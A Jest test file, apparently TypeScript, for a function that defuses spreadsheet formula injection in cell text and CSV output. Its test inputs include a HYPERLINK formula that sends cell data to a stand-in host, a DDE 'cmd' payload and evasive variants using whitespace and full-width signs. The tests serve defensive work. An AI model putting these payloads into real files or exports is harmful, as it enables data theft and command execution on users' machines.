import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { defuse, defuseInCsv } from './defuse.ts';

describe('what a program would run becomes a text', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋48',
    '－1',
    '＠x',
    '+48601234567',
    '-',
  ])('%j', (text) => {
    expect(defuse(text)).toBe(`'${text}`);
  });
});

test.each(['', 'Krzysztof', 'a=b', 'WX-12345', '12', '-5', '-1.5', "'quoted", 'x@y.example'])(
  '%j stays as it is',
  (text) => {
    expect(defuse(text)).toBe(text);
  },
);

test('nothing begins with a sign of a formula afterwards, and nothing is lost', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), (text) => {
      const defused = defuse(text);
      expect(defused.endsWith(text)).toBe(true);
      expect(/^[=+@\t\r\n]/.test(defused)).toBe(false);
      expect(/^-/.test(defused) && !/^-[\d.,]+$/.test(defused)).toBe(false);
    }),
  );
});

test.each([
  ['x;=1+1;y', "x;'=1+1;y"],
  ['x; @SUM(A1)', "x; '@SUM(A1)"],
  ['x\n=1+1', "x\n'=1+1"],
  ['x\r\n\t-2+3+cmd|x', "x\r\n\t'-2+3+cmd|x"],
  ['=1;=2', "'=1;'=2"],
  ['a; b = c, 5-3', 'a; b = c, 5-3'],
])('given a program that is set to semicolons, then %j is no formula in CSV', (text, expected) => {
  expect(defuseInCsv(text)).toBe(expected);
});
